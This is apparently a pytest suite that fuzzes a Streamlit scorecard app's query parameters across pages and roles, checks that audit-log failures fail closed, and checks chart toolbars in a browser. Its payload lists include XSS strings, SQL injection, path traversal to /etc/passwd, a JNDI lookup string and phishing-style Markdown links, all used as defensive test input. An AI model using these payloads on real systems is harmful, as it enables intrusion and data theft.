"""Hostile links against every page × role, through app.py (issue 12, findings 5, 6 and 10).

Over a thousand query-parameter sets — very long values, Unicode look-alikes and direction overrides,
Markdown and HTML payloads, SQL-like text, dates outside the data, non-ASCII digits and repeated keys —
are driven through the real app (Streamlit's AppTest, one per role, switching pages) on the fixture
database. For each: no exception, nothing from the link rendered as Markdown or HTML (no live link, image,
bold text or tag made from it), and each page drawn within a few seconds of CPU time.
"""

from __future__ import annotations

import random
import re
import time
import zlib

import pytest
from streamlit.testing.v1 import AppTest
from test_app import APP, AUTH, EMAILS, PAGE_FILES

from core import access, scorecard
from core.ui import LINK_KEYS

SETS_PER_PAGE = 45  # 23 page × role pairs → 1,035 hostile sets
SECONDS_PER_RUN = 5.0

# Payloads carry "ZZ" markers: if one of these reaches a Markdown element unescaped, it was rendered.
MARKDOWN = [
    "[Reset your password](https://evil.example/ZZ)",
    "![ZZ](https://tracker.example/p.gif)",
    "**ZZbold**",
    "<img src=x onerror=alert('ZZ')>",
    "<script>ZZ()</script>",
    ":red[ZZ]",
    "$ZZ^2$",
    "# ZZ heading",
    "`ZZ`",
    "<a href='https://evil.example/ZZ'>ZZ</a>",
    "[ZZ]: https://evil.example/ref",
    "javascript:alert('ZZ')",
    "~~ZZ~~",
    "> ZZ",
    "- ZZ\n- ZZ",
    "https://evil.example/ZZ",
    "www.evil.example/ZZ",
    "ZZ@evil.example",
]
UNICODE = [
    "\u202eZZgnp.exe",
    "\u212a\u212a",
    "２０２６Q３",
    "2026Q\u0663",
    "²",
    "\u0662\u0660\u0662\u0666",
    "e\u0301\u0301\u0301",
    "🙂" * 50,
    "\u200b\u200bTKA",
    "\ufeffTKA",
    "\uff34\uff2b\uff21",
    "Ω≈ç√∫",
    "\x00",
    "\u0000ZZ",
    "TKA\u0000",
    "\t\r\n",
]
SQL = [
    "' OR 1=1 --",
    "1; DROP TABLE audit_log; --",
    '" OR ""="',
    "TKA' UNION SELECT * FROM mart_user --",
    "%27%20OR%201%3D1",
    "../../etc/passwd",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "%s%s%s%n",
    "NULL",
    "None",
]
DATES = [
    "0000",
    "0000Q1",
    "9999Q4",
    "9999",
    "2026Q5",
    "2026Q0",
    "2026-02-30..2026-03-01",
    "0000-01-01..9999-12-31",
    "2026-09-30..2026-01-01",
    "1900",
    "2026-1-1..2026-2-2",
    "2025-10-01..2026-09-29",
    "-1",
    "1e9",
    "0x10",
]
LONG = ["A" * 5000, "9" * 5000, "[x](https://evil.example/ZZ)" * 200, "2026Q1" * 1000, "é" * 3000]
HONEST = {
    "procedure": ["TKA", "THA", "CABG"],
    "period": ["last12", "2026Q1", "2025", "2025-10-01..2026-06-30"],
    "step": ["1", "2", "3", "99"],
    "service_line": ["Orthopaedics", "Cardiovascular"],
    "category": ["Gloves", "Knee implant"],
    "outcome": ["complication", "los_days"],
    "physician": ["P01", "P02"],
    "grade": ["high", "low"],
    "q": ["glove"],
    "slide": ["1"],
}
VALUES = MARKDOWN + UNICODE + SQL + DATES + LONG
OTHER_KEYS = ["embed", "embed_options", "__proto__", "physician[]", "PERIOD", "x" * 300]


def hostile_sets(seed: int, n: int) -> list[dict]:
    """`n` query-parameter sets: link keys (and a few others) with hostile, honest or repeated values."""
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        params: dict = {}
        for key in rng.sample(list(LINK_KEYS), rng.randint(1, 5)) + rng.sample(OTHER_KEYS, rng.random() < 0.2):
            roll = rng.random()
            if roll < 0.15 and key in HONEST:
                params[key] = rng.choice(HONEST[key])
            elif roll < 0.3:
                params[key] = [rng.choice(VALUES) for _ in range(rng.randint(2, 3))]  # a repeated key
            else:
                params[key] = rng.choice(VALUES)
        out.append(params)
    return out


def rendered_markdown(at: AppTest) -> list[str]:
    """Every text Streamlit would render as Markdown (or HTML, for unsafe_allow_html)."""
    parts = []
    # (st.code shows its text literally, so the share box's link is not among them.)
    for kind in (
        "title",
        "header",
        "subheader",
        "markdown",
        "caption",
        "warning",
        "info",
        "error",
        "success",
        "latex",
        "exception",
    ):
        for element in getattr(at, kind):
            value = getattr(element, "value", None) or getattr(element, "message", None)
            if isinstance(value, str):
                parts.append(value)
    parts += [str(m.label) for m in at.metric]
    parts += [str(t.label) for t in at.tabs] + [str(e.label) for e in at.expander]
    return parts


MARKERS = (
    "](https://evil",
    "](https://tracker",
    "**ZZ",
    "<img",
    "<script",
    "<a href",
    ":red[ZZ",
    "$ZZ",
    "`ZZ`",
    "~~ZZ",
    "]: https://evil",
)
# A marker counts only when its first character is not escaped by a backslash (an escaped one shows literally).
LIVE = re.compile("|".join(r"(?<!\\)" + re.escape(m) for m in MARKERS))


# GFM also links bare addresses in the text as a reader sees it (escapes resolved).
BARE = re.compile(r"(?i)\b(https?://(evil|tracker)|www\.evil)|\w@evil")


def echoed(parts: list[str]) -> list[str]:
    """Pieces of a payload that arrived as live Markdown or HTML, or as a bare address GFM would link."""
    found = [
        f"{text[:160]!r}"
        for text in parts
        if LIVE.search(text) or BARE.search(re.sub(r"\\(.)", r"\1", text)) or "\u202e" in text
    ]
    found += [text[:160] for text in parts if text.lstrip().startswith(("# ZZ", "> ZZ", "- ZZ"))]
    return found


ROLE_PAGES = []
for _role, _email in EMAILS.items():
    _viewer = access.viewer_from_roster(
        _email,
        __import__("pandas").DataFrame(
            {
                "email": list(EMAILS.values()),
                "role": list(EMAILS),
                "physician_id": ["P01", "P03", None, None],
                "service_line": [None, "Orthopaedics", None, None],
                "physician_name": [None, None, None, None],
            }
        ),
    )
    ROLE_PAGES.append((_role, [p for p in access.allowed_pages(_viewer) if p in PAGE_FILES]))


@pytest.mark.parametrize("role,pages", ROLE_PAGES, ids=[r for r, _ in ROLE_PAGES])
def test_hostile_links_on_every_page(fixture_db, role, pages):
    viewer = access.viewer_from_roster(EMAILS[role], scorecard.roster())
    assert set(pages) == set(access.allowed_pages(viewer))
    at = AppTest.from_file(APP, default_timeout=30)
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": EMAILS[role], "email_verified": True, "name": "N"}
    at.run()
    assert not at.exception
    runs, slowest, problems = 0, 0.0, []
    for p, page in enumerate(pages):
        for i, params in enumerate(hostile_sets(seed=zlib.crc32(f"{role}|{page}".encode()), n=SETS_PER_PAGE)):
            at.switch_page(PAGE_FILES[page])
            at.query_params.clear()
            at.query_params.update(params)
            # CPU time of this process (the app runs in it): other work on a shared machine does not count.
            started = time.process_time()
            at.run()
            took = time.process_time() - started
            slowest = max(slowest, took)
            runs += 1
            where = f"{role} {page} #{i} {str(params)[:200]}"
            if at.exception:
                problems.append(f"{where}: {at.exception[0].message[:300]} {at.exception[0].stack_trace[-3:]}")
            problems += [f"{where}: {e}" for e in echoed(rendered_markdown(at))]
            if took > SECONDS_PER_RUN:
                problems.append(f"{where}: took {took:.1f}s")
    assert not problems, "\n".join(problems[:10])
    assert runs == len(pages) * SETS_PER_PAGE
    print(f"{role}: {runs} hostile links over {len(pages)} pages, slowest {slowest:.2f}s")


def test_at_least_a_thousand_hostile_sets_in_all():
    assert sum(len(p) for _, p in ROLE_PAGES) * SETS_PER_PAGE >= 1000


# --- the audit fails closed (issue 12, finding 7) ---------------------------------------------------


@pytest.mark.parametrize("role", list(EMAILS))
def test_a_view_whose_audit_entry_cannot_be_written_is_not_shown(fixture_db, monkeypatch, role):
    from core import state

    real = state.audit

    def locked(email, role_, action, *args, **kwargs):
        if action == "view":
            raise state.StateWriteError("database is locked")
        return real(email, role_, action, *args, **kwargs)

    monkeypatch.setattr(state, "audit", locked)
    viewer = access.viewer_from_roster(EMAILS[role], scorecard.roster())
    at = AppTest.from_file(APP, default_timeout=30)
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": EMAILS[role], "email_verified": True, "name": "N"}
    at.run()
    for page in access.allowed_pages(viewer):
        at.switch_page(PAGE_FILES[page]).run()
        assert not at.exception, (page, at.exception[0].message)
        assert any("audit log could not be written" in e.value for e in at.error), page
        # Nothing after the failed entry is drawn: no figure, no table, no chart, no download.
        assert not at.metric and not at.dataframe, page
        assert not at.get("vega_lite_chart") and not at.get("download_button"), page


def test_a_failed_sign_in_entry_shows_nothing(fixture_db, monkeypatch):
    from core import state

    def locked(*args, **kwargs):
        raise state.StateWriteError("database is locked")

    monkeypatch.setattr(state, "audit", locked)
    at = AppTest.from_file(APP, default_timeout=30)
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": EMAILS["physician"], "email_verified": True, "name": "N"}
    at.run()
    assert not at.exception and at.error and not at.metric and not at.dataframe and not at.title


# --- in a real browser: the chart toolbar and a hostile link ---------------------------------------


@pytest.mark.browser
def test_in_the_browser_no_chart_png_download_and_no_link_from_a_link(app_url, page):
    from browser_support import screenshot, sign_in, wait_for_app

    sign_in(page, app_url, "p01@fixture.org")
    hostile = "[Reset your password](https://evil.example/ZZ)"
    # The physician's home page is their scorecard, served at the root.
    page.goto(f"{app_url}/?procedure={__import__('urllib.parse').parse.quote(hostile)}&period=0000Q1")
    wait_for_app(page)
    page.wait_for_selector('[data-testid="stVegaLiteChart"]', timeout=30_000)
    # The payload is shown as its characters, never as a link or an image.
    anchors = page.locator('a[href*="evil.example"]')
    assert anchors.count() == 0, [
        anchors.nth(i).evaluate("a => a.parentElement.outerHTML") for i in range(anchors.count())
    ]
    alerts = page.locator('[data-testid="stAlert"]')
    shown = "\n".join(alerts.nth(i).inner_text() for i in range(alerts.count())).replace("\u2060", "")
    assert hostile in shown and "'0000Q1' has no data" in shown
    screenshot(page, app_url.log_path.parent / "hostile-link-scorecard.png")
    # Hovering a chart shows its toolbar, without the unaudited "Download as PNG".
    chart = page.locator('[data-testid="stVegaLiteChart"]').first
    chart.scroll_into_view_if_needed()
    chart.hover(force=True)
    page.wait_for_timeout(500)
    buttons = page.locator('[data-testid="stElementToolbarButton"]')
    labels = [buttons.nth(i).locator("button").get_attribute("aria-label") or "" for i in range(buttons.count())]
    visible = [lab for i, lab in enumerate(labels) if buttons.nth(i).is_visible()]
    assert visible, labels  # the toolbar is there (fullscreen, show data)…
    assert not any(lab.startswith("Download as PNG") for lab in visible), visible  # …but not its download
    page.screenshot(path=str(app_url.log_path.parent / "chart-toolbar.png"))
